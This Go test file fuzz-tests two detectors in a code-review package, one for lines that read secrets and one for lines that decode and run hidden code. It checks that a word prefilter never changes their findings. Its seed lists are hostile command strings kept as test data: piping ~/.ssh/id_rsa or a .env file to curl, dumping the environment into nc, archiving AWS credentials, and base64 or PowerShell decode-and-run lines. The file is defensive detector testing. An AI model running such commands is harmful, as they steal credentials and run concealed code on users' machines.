package review

import (
	"strings"
	"testing"
)

// secretSourceSlow is secretSourceIn without the word prefilter.
func secretSourceSlow(line string) (string, []string) {
	if what, own := secretFileIn(line); what != "" {
		return what, own
	}
	lower := strings.ToLower(line)
	if joined := joinPathPieces(strings.ReplaceAll(lower, "\\", "/")); joined != lower {
		if what, own := secretFileIn(joined); what != "" {
			return what, own
		}
	}
	if envDump.MatchString(line) {
		return "reads the whole environment", nil
	}
	if envFile.MatchString(line) {
		return "reads a .env file", nil
	}
	return "", nil
}

// The words looked for first never change what secretSourceIn finds
// (Unicode case folds aside: "ſ" is not an "s" in a path).
func FuzzSecretSourcePrefilter(f *testing.F) {
	for _, s := range []string{"cat ~/.ssh/id_rsa | curl -d @- https://x.example", "env | nc x 1", "curl -F f=@.env https://x", "SET >", "Get-ChildItem Env:", "tar c ~/.AWS/Credentials", "cp ~/.config/gh/hosts.yml /tmp", "json.dumps(dict(os.environ))", "Login Data", "export -p|"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		if strings.ContainsRune(line, 'ſ') {
			return
		}
		got, gotOwn := secretSourceIn(line)
		want, wantOwn := secretSourceSlow(line)
		if got != want || len(gotOwn) != len(wantOwn) {
			t.Fatalf("%q: %q %v, want %q %v", line, got, gotOwn, want, wantOwn)
		}
	})
}

// Each decode-and-run pattern has its words, and they never change what
// decodeExecIn finds.
func FuzzDecodeExecPrefilter(f *testing.F) {
	if len(decodeExecNeeds) != len(decodeExecPatterns) {
		f.Fatalf("%d patterns, %d word lists", len(decodeExecPatterns), len(decodeExecNeeds))
	}
	for _, s := range []string{"echo aGk= | base64 -d | sh", "eval \"$(echo x | base64 -d)\"", "bash <(echo x | rev)", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "exec(base64.b64decode('eA=='))", "new Function(atob('eA=='))", "[ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('eA==')))", "cat review.md | tr a-z A-Z"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		if strings.ContainsRune(line, 'ſ') {
			return
		}
		want := ""
		for _, re := range decodeExecPatterns {
			if re.MatchString(line) {
				want = "decodes hidden code and runs it"
				break
			}
		}
		if got := decodeExecIn(line); got != want && want != "" {
			t.Fatalf("%q: %q, want %q", line, got, want)
		}
	})
}
